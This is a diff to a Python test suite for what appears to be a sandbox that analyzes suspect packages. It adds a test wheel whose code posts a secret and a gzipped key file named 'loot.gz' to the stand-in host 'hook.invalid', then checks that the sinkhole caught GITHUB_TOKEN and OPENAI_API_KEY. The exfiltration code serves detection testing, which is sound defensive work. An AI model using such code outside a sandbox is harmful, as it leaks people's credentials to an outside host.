@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import importlib.metadata
+import io
+import zipfile
 from typing import Any
 
 import pytest
 
 from analyzer.observations import read_sinkhole
 from analyzer.sandbox.client import RunOutcome
-from tests.analyzer.sandbox.lab import GUARD, Lab, lines, output, sdist, wheel
+from analyzer.sandbox.protocol import InputFile
+from tests.analyzer.sandbox.lab import GUARD, Lab, given, lines, output, sdist, wheel
 
 pytestmark = pytest.mark.privileged
 
@@ -90,6 +94,38 @@ subprocess.run(argv, check=True)
 """
     (talk,) = told(await run(lab, code))
     assert (talk["sni"], talk["tls"], talk["what"]) == ("curl.invalid", "ended", {"GITHUB_TOKEN"})
+
+
+def installed(name: str) -> tuple[InputFile, int]:
+    """A wheel made from what this environment has installed, so that no index is asked."""
+    found = importlib.metadata.distribution(name)
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for path in found.files or ():
+            if ".." not in path.parts and path.suffix != ".pyc":
+                archive.write(str(found.locate_file(path)), str(path))
+    folder = name.replace("-", "_")
+    return given(f"{folder}-{found.version}-py3-none-any.whl", buffer.getvalue(), "run")
+
+
+@pytest.mark.parametrize("variables", [True, False])
+async def test_tls__requests_is_answered_and_read(lab: Lab, variables: bool) -> None:
+    code = """
+    import requests
+    session = requests.Session()
+    session.trust_env = VARIABLES
+    print(session.post('https://hook.invalid/in', json={'t': SECRET}, timeout=20).json())
+    files = {'file': ('loot.gz', gzip.compress(KEY.encode()))}
+    print(session.post('https://hook.invalid/in', files=files, timeout=20).status_code)
+""".replace("VARIABLES", str(variables))
+    artifact = wheel("reenact_case", {"reenact_case.py": GUARD + CLIENT + "if HARNESS:" + code})
+    names = ("requests", "urllib3", "idna", "certifi", "charset-normalizer")
+    outcome = await lab.run(artifact, *(installed(name) for name in names))
+
+    assert "{}\n200" in output(outcome)
+    first, second = told(outcome)
+    assert (first["tls"], first["what"]) == ("ended", {"GITHUB_TOKEN"})
+    assert (second["tls"], second["what"]) == ("ended", {"OPENAI_API_KEY"})
 
 
 async def test_tls__who_names_certifis_bundle_trusts_it_too(lab: Lab) -> None:
